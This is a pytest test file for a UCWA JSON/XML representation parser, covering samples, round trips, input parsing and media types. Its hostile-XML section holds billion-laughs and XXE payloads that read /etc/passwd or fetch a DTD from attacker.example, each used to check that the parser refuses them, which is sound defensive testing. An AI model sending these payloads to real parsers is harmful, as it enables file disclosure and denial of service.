"""Tests for ucwa_nb.protocol.representation: reference samples, round trips, inputs, hostile XML.

The samples and their manifest live in the shared folder beside the repository root
(``../shared/ucwa-samples``); see its README for what each manifest entry promises. Where it is
missing (a plain clone) the sample tests skip, and fail under CI=true (tests/shared_data.py).
"""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hostile_xml import billion_laughs
from hypothesis import given
from hypothesis import strategies as st
from shared_data import require_shared, shared_params

from ucwa_nb.protocol.representation import (
    Event,
    Events,
    Format,
    Link,
    ParseError,
    Reason,
    Resource,
    Sender,
    build_events,
    build_input,
    build_reason,
    build_resource,
    format_of,
    media_type,
    parse,
    parse_input,
    reason_of,
)

SAMPLES = "ucwa-samples"
MANIFEST = f"{SAMPLES}/manifest.json"
NAMESPACE = "http://schemas.microsoft.com/rtc/2012/03/ucwa"
EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
JSON = "application/json"
XML = "application/xml"

# --------------------------------------------------------------------------- sample helpers

_RAW_JSON_DATE = re.compile(r"/Date\((-?\d+)([+-]\d{4})?\)/")
_RAW_ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})")


def expected_value(raw: Any, fmt: str) -> Any:
    """A manifest value (raw text) converted the way the parser documents it converts values.

    JSON: ``/Date(ms)/`` becomes an aware UTC datetime (the optional offset suffix is only a
    display hint, the milliseconds are UTC). XML: ``True``/``False`` become bools and ISO 8601
    dates with an offset become aware datetimes (.NET's 7 fractional digits cut to Python's 6).
    Everything else stays as it is.
    """
    if isinstance(raw, list):
        return [expected_value(item, fmt) for item in raw]
    if not isinstance(raw, str):
        return raw
    if fmt == "json":
        match = _RAW_JSON_DATE.fullmatch(raw)
        return EPOCH + timedelta(milliseconds=int(match.group(1))) if match else raw
    if raw in ("True", "False"):
        return raw == "True"
    if _RAW_ISO_DATE.fullmatch(raw):
        return datetime.fromisoformat(raw)  # 3.11 reads 7 digits, truncating to microseconds
    return raw


def assert_same_value(got: Any, expected: Any) -> None:
    assert got == expected
    assert type(got) is type(expected)  # True == 1 and "x" != ..., but a bool must stay a bool
    if isinstance(expected, datetime):
        assert got.tzinfo is not None
        assert got.utcoffset() is not None


def read_manifest(path: Path) -> list[dict[str, Any]]:
    entries: list[dict[str, Any]] = json.loads(path.read_text("utf-8"))
    return entries


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    # At collection, not at import: a clone without ../shared still collects (and skips).
    if "entry" in metafunc.fixturenames:
        metafunc.parametrize("entry", shared_params(MANIFEST, read_manifest,
                                                    lambda entry: str(entry["file"])))
    if "identical_entry" in metafunc.fixturenames:
        metafunc.parametrize("identical_entry", shared_params(
            MANIFEST, lambda path: [e for e in read_manifest(path) if e.get("identical_to")],
            lambda entry: str(entry["file"])))


@pytest.fixture
def samples() -> Path:
    """../shared/ucwa-samples (skips where it is missing, fails under CI=true)."""
    return require_shared(SAMPLES)


def load_sample(samples: Path, entry: dict[str, Any]) -> bytes:
    return (samples / str(entry["file"])).read_bytes()


def content_type(fmt: str) -> str:
    return JSON if fmt == "json" else XML


def check_resource(resource: Resource, expect: dict[str, Any], fmt: str) -> None:
    assert resource.rel == expect["rel"]
    assert resource.href == expect["self_href"]
    assert "self" not in resource.links
    assert set(resource.links) == set(expect["link_rels"])
    for rel, hrefs in expect["link_hrefs"].items():
        assert [link.href for link in resource.links[rel]] == hrefs
        assert all(link.rel == rel for link in resource.links[rel])
    for name, raw in expect["properties"].items():
        assert name in resource.properties, name
        assert_same_value(resource.properties[name], expected_value(raw, fmt))
    for name, raw_items in expect.get("property_lists", {}).items():
        assert resource.properties[name] == expected_value(raw_items, fmt)
    assert set(resource.embedded) == set(expect["embedded_rels"])


def event_facts(event: Event) -> dict[str, Any]:
    """An event in the manifest's shape (optional keys only when present)."""
    facts: dict[str, Any] = {
        "type": event.type,
        "link_rel": event.link.rel,
        "link_href": event.link.href,
    }
    if event.status is not None:
        facts["status"] = event.status
    if event.in_ is not None:
        facts["in"] = {"rel": event.in_.rel, "href": event.in_.href}
    if event.embedded:
        facts["embedded_rels"] = sorted(event.embedded)
    return facts


def check_events(events: Events, expect: dict[str, Any]) -> None:
    for rel in ("self", "next", "resync", "resume"):
        assert events.href(rel) == expect.get(f"{rel}_href"), rel
    assert [(s.rel, s.href) for s in events.senders] == [
        (s["rel"], s["href"]) for s in expect["senders"]
    ]
    for sender, expected_sender in zip(events.senders, expect["senders"], strict=True):
        expected_events = [
            {**e, "embedded_rels": sorted(e["embedded_rels"])} if "embedded_rels" in e else e
            for e in expected_sender["events"]
        ]
        assert [event_facts(e) for e in sender.events] == expected_events
    assert len(events.all_events()) == sum(len(s["events"]) for s in expect["senders"])


# --------------------------------------------------------------------------- the samples


def test_manifest_lists_every_sample(samples: Path) -> None:
    manifest = read_manifest(samples / "manifest.json")
    on_disk = {
        p.relative_to(samples).as_posix() for p in (samples / "current").rglob("*") if p.is_file()
    }
    assert on_disk == {entry["file"] for entry in manifest}
    assert {entry["kind"] for entry in manifest} == {"resource", "events", "error"}


def test_sample(samples: Path, entry: dict[str, Any]) -> None:
    body = load_sample(samples, entry)
    fmt, expect = entry["format"], entry["expect"]
    if entry["file"].startswith("current/broken/"):
        # Doc pages elide content with "..."; the parser must fail cleanly, with ParseError
        # only (pytest.raises lets any other exception through and the test errors).
        with pytest.raises(ParseError, match="malformed JSON"):
            parse(body, content_type(fmt))
        return
    if "root_element" in expect:
        # Ambiguous: the XML answer to OPTIONS, <optionsMetadata> outside the UCWA namespace.
        # It is no UCWA representation, and the parser says so.
        assert expect["namespace"] is None
        with pytest.raises(ParseError, match=expect["root_element"]):
            parse(body, content_type(fmt))
        return
    result = parse(body, content_type(fmt))
    if entry["kind"] == "resource":
        # Includes the ambiguous JSON bodies (autodiscover without rel, the OAuth token, the
        # JSON optionsMetadata): plain objects read as a Resource whose rel is None.
        assert isinstance(result, Resource)
        check_resource(result, expect, fmt)
    elif entry["kind"] == "events":
        assert isinstance(result, Events)
        check_events(result, expect)
    else:
        assert isinstance(result, Reason)
        assert (result.code, result.subcode, result.message) == (
            expect["code"],
            expect["subcode"],
            expect["message"],
        )


def test_sample_parses_with_vendor_media_type_and_charset(samples: Path) -> None:
    xml = samples / "current" / "EventChannelDetails__2.xml"
    json_ = samples / "current" / "EventChannelDetails__1.json"
    from_xml = parse(xml.read_bytes(), "application/vnd.microsoft.com.ucwa+xml; charset=utf-8")
    from_json = parse(json_.read_text("utf-8"), "application/vnd.microsoft.com.ucwa+json")
    assert isinstance(from_xml, Events)
    assert isinstance(from_json, Events)
    assert [event_facts(e) for _, e in from_xml.all_events()] == [
        event_facts(e) for _, e in from_json.all_events()
    ]


def test_identical_samples_parse_alike(samples: Path, identical_entry: dict[str, Any]) -> None:
    ctype = content_type(identical_entry["format"])
    for other in identical_entry["identical_to"]:
        assert parse(load_sample(samples, identical_entry), ctype) == parse(
            (samples / other).read_bytes(), ctype)


def test_json_dates_become_aware_utc_datetimes(samples: Path) -> None:
    body = (samples / "current" / "conversation_ref__4.json").read_bytes()
    resource = parse(body, JSON)
    assert isinstance(resource, Resource)
    assert resource.get("created") == datetime(2016, 9, 26, 23, 20, 24, 822000, tzinfo=UTC)
    assert resource.get("CREATED") == resource.get("created")  # case-insensitive lookup


def test_xml_dates_keep_their_offset(samples: Path) -> None:
    body = (samples / "current" / "conversationLog_ref__2.xml").read_bytes()
    resource = parse(body, XML)
    assert isinstance(resource, Resource)
    created = resource.properties["creationTime"]
    assert created.utcoffset() == timedelta(hours=-7)
    assert created == datetime(2016, 9, 26, 23, 20, 24, 606654, tzinfo=UTC)


@pytest.mark.parametrize(
    ("body", "ctype", "expected"),
    [
        (
            '{"rel":"x","d":"/Date(1474932024587-0700)/"}',
            JSON,
            datetime(2016, 9, 26, 23, 20, 24, 587000, tzinfo=UTC),
        ),
        ('{"rel":"x","d":"/Date(-1000)/"}', JSON, datetime(1969, 12, 31, 23, 59, 59, tzinfo=UTC)),
        # Far from 1970 a float timestamp loses microseconds; integer milliseconds do not.
        (
            '{"rel":"x","d":"/Date(253402300799999)/"}',
            JSON,
            datetime(9999, 12, 31, 23, 59, 59, 999000, tzinfo=UTC),
        ),
        # Out of Python's range, or shaped like a date without being one: kept as sent.
        ('{"rel":"x","d":"/Date(99999999999999999)/"}', JSON, "/Date(99999999999999999)/"),
        (
            '<resource rel="x"><property name="d">2016-13-45T10:00:00Z</property></resource>',
            XML,
            "2016-13-45T10:00:00Z",
        ),
        (
            '<resource rel="x"><property name="d">2016-09-26T16:20:24</property></resource>',
            XML,
            "2016-09-26T16:20:24",
        ),
        (
            '<resource rel="x"><property name="d">2016-09-26T16:20:24Z</property></resource>',
            XML,
            datetime(2016, 9, 26, 16, 20, 24, tzinfo=UTC),
        ),
        ('<resource rel="x"><property name="d">true</property></resource>', XML, True),
        ('<resource rel="x"><property name="d" /></resource>', XML, ""),
    ],
)
def test_value_conversion_edges(body: str, ctype: str, expected: Any) -> None:
    resource = parse(body, ctype)
    assert isinstance(resource, Resource)
    assert_same_value(resource.properties["d"], expected)


def test_p_get_timeout_answer_is_an_empty_batch() -> None:
    # Protocol 2.2: a P-GET released by its timeout carries only _links with next, no sender.
    body = '{"_links":{"self":{"href":"/e?ack=2"},"next":{"href":"/e?ack=3"}}}'
    events = parse(body, JSON)
    assert isinstance(events, Events)
    assert (events.href("self"), events.href("next"), events.senders) == (
        "/e?ack=2",
        "/e?ack=3",
        [],
    )
    resync = parse('{"_links":{"resync":{"href":"/e?ack=1"}}}', JSON)
    assert isinstance(resync, Events)
    assert resync.href("resync") == "/e?ack=1"
    # Autodiscover bodies have _links but no rel and no next: they stay resources.
    assert isinstance(
        parse('{"_links":{"self":{"href":"/r"},"user":{"href":"/u"}}}', JSON), Resource
    )


# --------------------------------------------------------------------------- round trips

# Text that survives XML 1.0: no control characters (XML forbids most C0 codes and parsers
# turn \r into \n), no surrogates and no U+FFFE/U+FFFF non-characters.
XML_SAFE_CHARS = st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff")
SAFE_TEXT = st.text(XML_SAFE_CHARS, max_size=12)
HREF = st.sampled_from(
    ["/ucwa/v1/applications/192", "https://fe1.contoso.com/x?a=1&b=<2>"]
) | st.text(XML_SAFE_CHARS, max_size=12).map(lambda s: "/ucwa/v1/" + s)
TITLE = st.none() | SAFE_TEXT
# Generated names start with "x", so they never hit a name with a meaning of its own: a
# "rel" property is the type, a "sender" member marks a JSON event batch, a self link is the
# href, and a rel-less body with only next/resync/resume links reads as an empty event batch.
NAME = st.text("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", max_size=8).map(
    lambda s: "x" + s
)
REL = st.sampled_from(["conversation", "phoneAudio", "participant", "me", "from", "to"]) | NAME

OFFSETS = st.integers(min_value=-14 * 60, max_value=14 * 60).map(
    lambda minutes: timezone(timedelta(minutes=minutes))
)
# Whole-minute offsets only: a UCWA offset is +hh:mm, Python would also write seconds.
# A day of margin keeps the UTC instant inside Python's range whatever the offset.
AWARE_DATETIMES = st.datetimes(
    min_value=datetime(1, 1, 2), max_value=datetime(9999, 12, 30), timezones=OFFSETS
)
JSON_DATETIMES = AWARE_DATETIMES.map(lambda d: d.replace(microsecond=d.microsecond // 1000 * 1000))

# JSON keeps every type (str, bool, int, list) but reads "/Date(ms)/" text as a datetime.
JSON_TEXT = SAFE_TEXT.filter(lambda s: not _RAW_JSON_DATE.fullmatch(s))
JSON_VALUE = st.one_of(
    JSON_TEXT, st.booleans(), st.integers(), JSON_DATETIMES, st.lists(JSON_TEXT, max_size=3)
)
# XML keeps property values as text; only True/False (any case the parser reads: True, true)
# and ISO 8601 dates with an offset are read back as bool/datetime. So XML text that looks like
# either would come back as another type, and ints would come back as text: leave them out.
XML_TEXT = SAFE_TEXT.filter(
    lambda s: s not in ("True", "False", "true", "false") and not re.match(r"\d{4}-\d{2}-\d{2}T", s)
)
XML_VALUE = st.one_of(XML_TEXT, st.booleans(), AWARE_DATETIMES, st.lists(XML_TEXT, max_size=3))


@st.composite
def link_maps(draw: st.DrawFn) -> dict[str, list[Link]]:
    """Links by rel: one link, or a rel that repeats (hrefs and titles of its own)."""
    links: dict[str, list[Link]] = {}
    for rel in draw(st.lists(REL, max_size=3, unique=True)):
        pairs = draw(st.lists(st.tuples(HREF, TITLE), min_size=1, max_size=2))
        links[rel] = [Link(rel, href, title) for href, title in pairs]
    return links


LINK_MAPS = link_maps()


@st.composite
def resources(
    draw: st.DrawFn, fmt: Format, depth: int = 2, rel: str | bool | None = False
) -> Resource:
    """A resource; ``rel`` False draws one (or None), a string forces it (embedded copies)."""
    value = JSON_VALUE if fmt == "json" else XML_VALUE
    own_rel = draw(st.none() | REL) if rel is False else rel
    embedded: dict[str, list[Resource]] = {}
    if depth > 0:
        for embedded_rel in draw(st.lists(REL, max_size=depth, unique=True)):
            # JSON keys embedded resources by the containing resource's name for them, which
            # may differ from their own rel ("from" holds a "participant"); XML has only the
            # nested <resource rel>, so there the key is the rel.
            nested_rel = draw(REL) if fmt == "json" else embedded_rel
            embedded[embedded_rel] = draw(
                st.lists(resources(fmt, depth - 1, nested_rel), min_size=1, max_size=depth)
            )
    return Resource(
        rel=own_rel if isinstance(own_rel, str) else None,
        href=draw(st.none() | HREF),
        properties=draw(st.dictionaries(NAME, value, max_size=3)),
        links=draw(LINK_MAPS),
        embedded=embedded,
    )


REASON = st.builds(
    Reason,
    code=st.sampled_from(["BadRequest", "Conflict", "RemoteFailure", "LocalFailure"]) | NAME,
    subcode=st.none() | st.sampled_from(["NormalizationFailed", "Declined", ""]) | NAME,
    message=st.none() | SAFE_TEXT,
    parameters=st.dictionaries(NAME, SAFE_TEXT, max_size=3),
    debug_info=st.dictionaries(NAME, SAFE_TEXT, max_size=2),
    link=st.none() | HREF,
)


@st.composite
def events_batches(draw: st.DrawFn, fmt: Format) -> Events:
    links: dict[str, list[Link]] = {"self": [Link("self", draw(HREF))]}
    # Every batch moves the channel on: next, or resync/resume instead.
    for rel in draw(
        st.lists(st.sampled_from(["next", "resync", "resume"]), min_size=1, max_size=2, unique=True)
    ):
        links[rel] = [Link(rel, draw(HREF), draw(TITLE))]
    senders = []
    for _ in range(draw(st.integers(min_value=0, max_value=2))):
        sender = Sender(draw(REL), draw(HREF))
        for _ in range(draw(st.integers(min_value=0, max_value=2))):
            target = Link(draw(REL), draw(HREF), draw(TITLE))
            in_ = draw(st.none() | st.builds(Link, REL, HREF, TITLE))
            embedded = {}
            if draw(st.booleans()):
                embedded[target.rel] = [draw(resources(fmt, depth=1, rel=target.rel))]
            sender.events.append(
                Event(
                    type=draw(
                        st.sampled_from(["added", "updated", "deleted", "started", "completed"])
                    ),
                    link=target,
                    status=draw(st.none() | st.sampled_from(["Success", "Failure"])),
                    reason=draw(st.none() | REASON),
                    in_=in_,
                    embedded=embedded,
                )
            )
        senders.append(sender)
    return Events(links, senders)


def property_types(resource: Resource) -> dict[str, type]:
    return {name: type(value) for name, value in resource.properties.items()}


@given(resources("json"))
def test_resource_round_trip_json(resource: Resource) -> None:
    parsed = parse(build_resource(resource, "json"), JSON)
    assert parsed == resource
    assert isinstance(parsed, Resource)
    assert property_types(parsed) == property_types(resource)


@given(resources("xml"))
def test_resource_round_trip_xml(resource: Resource) -> None:
    parsed = parse(build_resource(resource, "xml"), XML)
    assert parsed == resource
    assert isinstance(parsed, Resource)
    assert property_types(parsed) == property_types(resource)


@given(events_batches("json"))
def test_events_round_trip_json(events: Events) -> None:
    assert parse(build_events(events, "json"), JSON) == events


@given(events_batches("xml"))
def test_events_round_trip_xml(events: Events) -> None:
    assert parse(build_events(events, "xml"), XML) == events


@given(REASON, st.sampled_from(["json", "xml"]))
def test_reason_round_trip(reason: Reason, fmt: Format) -> None:
    assert parse(build_reason(reason, fmt), media_type(fmt)) == reason


@given(st.dictionaries(NAME, JSON_VALUE, max_size=5))
def test_input_round_trip_json(properties: dict[str, Any]) -> None:
    assert parse_input(build_input(properties, "json"), JSON) == properties


@given(st.dictionaries(NAME, XML_VALUE, max_size=5))
def test_input_round_trip_xml(properties: dict[str, Any]) -> None:
    assert parse_input(build_input(properties, "xml"), XML) == properties


def test_repeated_and_single_links_in_json() -> None:
    resource = Resource(
        "conversation",
        "/c/1",
        links={
            "participant": [Link("participant", "/p/1")],
            "participants": [Link("participants", "/p/1", "A"), Link("participants", "/p/2")],
        },
        embedded={"me": [Resource("me", "/me")]},
    )
    data = json.loads(build_resource(resource, "json"))
    assert data["_links"] == {
        "self": {"href": "/c/1"},
        "participant": {"href": "/p/1"},
        "participants": [{"href": "/p/1", "title": "A"}, {"href": "/p/2"}],
    }
    assert data["_embedded"] == {"me": {"rel": "me", "_links": {"self": {"href": "/me"}}}}
    # An array of one is read like a single link.
    one = parse('{"rel":"x","_links":{"a":[{"href":"/a"}]}}', JSON)
    assert isinstance(one, Resource)
    assert one.link("a") == Link("a", "/a")
    assert one.link("b") is None


# --------------------------------------------------------------------------- parse_input

SEED_JSON = (
    '{"operationId" : "74cb7404e0a247d5a2d4eb0376a47dbf", "phoneNumber" : "tel:+14255551234",'
    ' "to" : "sip:john@contoso.com"}'
)
SEED_CONTINUE_JSON = (
    '{"operationId" : "74cb7404e0a247d5a2d4eb0376a47dbf", "phoneNumber" : "tel : +14255551234"}'
)
SEED_XML = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<input xmlns="http://schemas.microsoft.com/rtc/2012/03/ucwa">\n'
    '<property name="operationId">74cb7404e0a247d5a2d4eb0376a47dbf</property>\n'
    '<property name="phoneNumber">tel:+14255551234</property>\n'
    '<property name="to">sip:john@contoso.com</property>\n'
    "</input>"
)
SEED_PROPERTIES = {
    "operationId": "74cb7404e0a247d5a2d4eb0376a47dbf",
    "phoneNumber": "tel:+14255551234",
    "to": "sip:john@contoso.com",
}


@pytest.mark.parametrize(
    ("body", "ctype", "expected"),
    [
        (SEED_JSON, JSON, SEED_PROPERTIES),
        (SEED_JSON.encode(), "application/vnd.microsoft.com.ucwa+json", SEED_PROPERTIES),
        (SEED_XML, XML, SEED_PROPERTIES),
        (SEED_XML.encode(), "application/vnd.microsoft.com.ucwa+xml", SEED_PROPERTIES),
        (
            SEED_CONTINUE_JSON,
            JSON,
            {
                "operationId": "74cb7404e0a247d5a2d4eb0376a47dbf",
                "phoneNumber": "tel : +14255551234",  # as sent: normalising is not parsing
            },
        ),
    ],
    ids=["json", "json-vendor-bytes", "xml", "xml-vendor-bytes", "continue-json"],
)
def test_parse_input_seed_bodies(body: str | bytes, ctype: str, expected: dict[str, Any]) -> None:
    assert parse_input(body, ctype) == expected


def test_parse_input_json_object() -> None:
    body = json.dumps(
        {
            "importance": "Normal",
            "muted": False,
            "count": 3,
            "when": "/Date(1474932024587)/",
            "modalities": ["PhoneAudio", "Messaging"],
            "_links": {"self": {"href": "/ignored"}},
            "_embedded": {"x": {"rel": "x"}},
        }
    )
    assert parse_input(body, JSON) == {
        "importance": "Normal",
        "muted": False,
        "count": 3,
        "when": datetime(2016, 9, 26, 23, 20, 24, 587000, tzinfo=UTC),
        "modalities": ["PhoneAudio", "Messaging"],
    }


@pytest.mark.parametrize("root", ["input", "resource"])
def test_parse_input_xml_properties_and_lists(root: str) -> None:
    body = f"""<?xml version="1.0" encoding="utf-8"?>
    <{root} xmlns="{NAMESPACE}">
      <link rel="self" href="/ignored" />
      <property name="operationId">74cb7404e0a247d5a2d4eb0376a47dbf</property>
      <property name="phoneNumber">tel:+14255551234</property>
      <property name="muted">False</property>
      <property name="empty" />
      <propertyList name="supportedModalities"><item>PhoneAudio</item><item>Messaging</item>
      </propertyList>
      <propertyList name="none" />
      <resource rel="ignored" href="/ignored"><property name="x">y</property></resource>
    </{root}>"""
    assert parse_input(body, XML) == {
        "operationId": "74cb7404e0a247d5a2d4eb0376a47dbf",
        "phoneNumber": "tel:+14255551234",
        "muted": False,
        "empty": "",
        "supportedModalities": ["PhoneAudio", "Messaging"],
        "none": [],
    }


@pytest.mark.parametrize("body", ["[]", '"text"', "1", "null", '[{"a": 1}]'])
def test_parse_input_rejects_non_object_json(body: str) -> None:
    with pytest.raises(ParseError, match="object"):
        parse_input(body, JSON)


@pytest.mark.parametrize(
    "body",
    [
        f'<events xmlns="{NAMESPACE}" href="/e" />',
        '<inputs><property name="a">b</property></inputs>',
        f'<reason xmlns="{NAMESPACE}"><code>Conflict</code></reason>',
    ],
)
def test_parse_input_rejects_wrong_xml_root(body: str) -> None:
    with pytest.raises(ParseError, match="must be <input> or <resource>"):
        parse_input(body, XML)


@pytest.mark.parametrize("ctype", [None, "", "text/plain", "text/html"])
def test_parse_and_parse_input_reject_other_media_types(ctype: str | None) -> None:
    with pytest.raises(ParseError, match="not a UCWA media type"):
        parse_input(SEED_JSON, ctype)
    with pytest.raises(ParseError, match="not a UCWA media type"):
        parse(SEED_JSON, ctype)


# --------------------------------------------------------------------------- hostile bodies

BILLION_LAUGHS = billion_laughs(
    b'<resource rel="x"><property name="p">&lol9;</property></resource>').decode()
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE resource [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<resource rel="x"><property name="p">&xxe;</property></resource>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE resource SYSTEM "http://attacker.example/evil.dtd">
<resource rel="x" />"""
EXTERNAL_PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE resource [<!ENTITY % pe SYSTEM "http://attacker.example/evil.dtd"> %pe;]>
<resource rel="x" />"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, EXTERNAL_PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "external-parameter-entity"],
)
@pytest.mark.parametrize("as_bytes", [False, True])
def test_hostile_xml_is_refused(body: str, as_bytes: bool) -> None:
    data: str | bytes = body.encode() if as_bytes else body
    with pytest.raises(ParseError, match="refused"):
        parse(data, XML)
    with pytest.raises(ParseError, match="refused"):
        parse_input(data, XML)


@pytest.mark.parametrize(
    ("body", "ctype"),
    [
        ("", JSON),
        ("{", JSON),
        ('{"rel": "x",}', JSON),
        ("not json", JSON),
        (b"\xff\xfe{", JSON),
        ("[" * 100_000, JSON),
        ("", XML),
        ("<resource", XML),
        ("<resource rel='x'></resources>", XML),
        ("not xml", XML),
        (b'<?xml version="1.0" encoding="no-such-codec"?><resource/>', XML),
        ("<resource rel='\ud800'/>", XML),
    ],
)
def test_malformed_bodies_raise_parse_error(body: str | bytes, ctype: str) -> None:
    with pytest.raises(ParseError, match="malformed"):
        parse(body, ctype)


@pytest.mark.parametrize("ctype", [JSON, XML])
def test_json_body_must_be_an_object_and_xml_root_known(ctype: str) -> None:
    body = "[1, 2]" if ctype == JSON else f'<optionsMetadata xmlns="{NAMESPACE}" />'
    with pytest.raises(ParseError):
        parse(body, ctype)


@pytest.mark.parametrize(
    ("body", "ctype"),
    [
        ('{"rel":"a","_embedded":{"a":' * 400 + "{}" + "}}" * 400, JSON),
        ('{"rel":"a","p":' + "[" * 900 + "]" * 900 + "}", JSON),
        ('<resource rel="a">' * 5000 + "</resource>" * 5000, XML),
    ],
    ids=["json-embedded", "json-lists", "xml-resources"],
)
def test_deep_nesting_raises_parse_error(body: str, ctype: str) -> None:
    # Either json.loads or our own walk of the tree runs out of stack first, depending on the
    # depth of the caller's stack; either way the caller sees a ParseError.
    with pytest.raises(ParseError, match=r"nested too deeply|recursion depth"):
        parse(body, ctype)


@pytest.mark.parametrize(
    "body",
    [
        '{"sender": 5}',
        '{"sender": [5, {"events": 5}, {"events": {"type": "added"}}]}',
        '{"sender": [{"rel": null, "href": 7, "events": [{"link": [], "in": {"href": "x",'
        ' "title": 5}, "status": 1, "reason": 2, "type": null}]}]}',
        '{"rel": 5, "_links": {"a": 5, "b": [5, {"href": 5}], "c": {"title": "t"}}}',
        '{"rel": "x", "_embedded": {"a": 5, "b": [5, {}]}}',
        '{"code": 400, "parameters": [{"name": "a", "value": "b"}, 5], "link": {"href": "x"}}',
    ],
)
def test_odd_json_shapes_do_not_crash(body: str) -> None:
    assert isinstance(parse(body, JSON), Resource | Events | Reason)


JSON_KEYS = st.sampled_from(
    [
        "sender",
        "events",
        "link",
        "_links",
        "_embedded",
        "href",
        "rel",
        "in",
        "title",
        "type",
        "status",
        "reason",
        "code",
        "subcode",
        "parameters",
        "debugInfo",
        "self",
        "next",
    ]
)
JSON_SHAPES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.sampled_from(["x", "/Date(1)/", ""]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(JSON_KEYS, inner, max_size=4),
    max_leaves=12,
)


@given(st.dictionaries(JSON_KEYS, JSON_SHAPES, max_size=5))
def test_any_json_shape_parses_or_raises_parse_error(data: dict[str, Any]) -> None:
    try:
        result = parse(json.dumps(data), JSON)
    except ParseError:
        return
    assert isinstance(result, Resource | Events | Reason)


@given(st.text(max_size=200) | st.binary(max_size=200), st.sampled_from([JSON, XML]))
def test_any_text_parses_or_raises_parse_error(body: str | bytes, ctype: str) -> None:
    try:
        result = parse(body, ctype)
    except ParseError:
        return
    assert isinstance(result, Resource | Events | Reason)


# --------------------------------------------------------------------------- reason_of


@pytest.mark.parametrize("ctype", [JSON, XML, "application/vnd.microsoft.com.ucwa+xml"])
def test_reason_of_reads_an_error_body_in_either_dialect(ctype: str) -> None:
    reason = Reason("Conflict", "AlreadyExists", "taken", {"operationId": "op-1"})
    body = build_reason(reason, "json" if ctype == JSON else "xml")
    assert reason_of(body, ctype) == reason
    assert reason_of(body.decode(), ctype) == reason


@pytest.mark.parametrize(
    ("body", "ctype"),
    [
        (None, JSON),
        (b"", JSON),
        ('{"code":"Conflict"}', None),  # no media type: not read at all
        ('{"code":"Conflict"}', "text/html"),
        ("<html><body>401 Unauthorized</body></html>", "text/html"),
        ('{"error":"invalid_grant"}', JSON),  # OAuth's error, not UCWA's
        ('{"rel":"communication"}', JSON),  # a resource
        ('{"sender":[]}', JSON),  # an event batch
        ("[" * 100_000, JSON),
        ('{"rel":"a","_embedded":{"a":' * 400 + "{}" + "}}" * 400, JSON),
        ('<resource rel="a">' * 5000 + "</resource>" * 5000, XML),
        (billion_laughs(b"<reason><code>&lol9;</code></reason>"), XML),
        (b"\xff\xfe{", JSON),
        ("<reason", XML),
    ],
)
def test_reason_of_is_none_for_anything_but_an_error_body(body: str | bytes | None,
                                                           ctype: str | None) -> None:
    assert reason_of(body, ctype) is None


@given(st.text(max_size=200) | st.binary(max_size=200),
       st.sampled_from([JSON, XML, "text/html", None]))
def test_reason_of_never_raises(body: str | bytes, ctype: str | None) -> None:
    assert reason_of(body, ctype) is None or isinstance(reason_of(body, ctype), Reason)


# --------------------------------------------------------------------------- media types


@pytest.mark.parametrize(
    ("ctype", "expected"),
    [
        ("application/json", "json"),
        ("application/vnd.microsoft.com.ucwa+json", "json"),
        ("application/json; charset=utf-8", "json"),
        ("application/vnd.microsoft.com.ucwa+json;charset=utf-8", "json"),
        ("Application/JSON", "json"),
        ("application/xml", "xml"),
        ("application/vnd.microsoft.com.ucwa+xml", "xml"),
        ("application/xml; charset=utf-8", "xml"),
        ("application/vnd.microsoft.com.ucwa+xml; charset=utf-8", "xml"),
        ("text/xml", "xml"),
        ("text/html", None),
        ("text/html; charset=utf-8", None),
        ("text/plain", None),
        ("", None),
        (None, None),
    ],
)
def test_format_of(ctype: str | None, expected: str | None) -> None:
    assert format_of(ctype) == expected


def test_media_type() -> None:
    assert media_type("json") == "application/json"
    assert media_type("json", vendor=True) == "application/vnd.microsoft.com.ucwa+json"
    assert media_type("xml") == "application/xml"
    assert media_type("xml", vendor=True) == "application/vnd.microsoft.com.ucwa+xml"
    formats: tuple[Format, ...] = ("json", "xml")
    for fmt in formats:
        for vendor in (False, True):
            assert format_of(media_type(fmt, vendor)) == fmt


# --------------------------------------------------------------------------- output shape

WHEN = datetime(2016, 9, 26, 16, 20, 24, 587000, tzinfo=timezone(timedelta(hours=-7)))


def test_json_output_writes_escaped_ajax_dates() -> None:
    resource = Resource("conversationLog", "/l", {"creationTime": WHEN, "dates": [WHEN]})
    body = build_resource(resource, "json")
    assert b'"creationTime":"\\/Date(1474932024587)\\/"' in body
    assert b'"dates":["\\/Date(1474932024587)\\/"]' in body
    assert b'"/Date(' not in body
    assert b'"\\/Date(1474932024587)\\/"' in build_input({"when": WHEN}, "json")
    # A naive datetime is taken as UTC.
    naive = build_input({"when": datetime(1970, 1, 1, 0, 0, 1)}, "json")
    assert naive == b'{"when":"\\/Date(1000)\\/"}'


def test_json_output_booleans_and_text() -> None:
    body = build_resource(Resource("p", "/p", {"local": True, "name": "Zoë", "n": 3}), "json")
    assert json.loads(body) == {
        "rel": "p",
        "local": True,
        "name": "Zoë",
        "n": 3,
        "_links": {"self": {"href": "/p"}},
    }
    assert "Zoë".encode() in body  # UTF-8, not \\u escapes


def test_xml_output_writes_true_false_and_iso_dates() -> None:
    resource = Resource(
        "participant", "/p", {"local": True, "anonymous": False, "joined": WHEN, "n": 3}
    )
    body = build_resource(resource, "xml")
    assert body.startswith(b'<?xml version="1.0" encoding="utf-8"?>\n<resource ')
    assert f'xmlns="{NAMESPACE}"'.encode() in body
    assert b'<property name="local">True</property>' in body
    assert b'<property name="anonymous">False</property>' in body
    # conversation_ref's XML sample: <property name="created">2016-09-26T16:20:24.8356669
    # -07:00</property>: seven fractional digits.
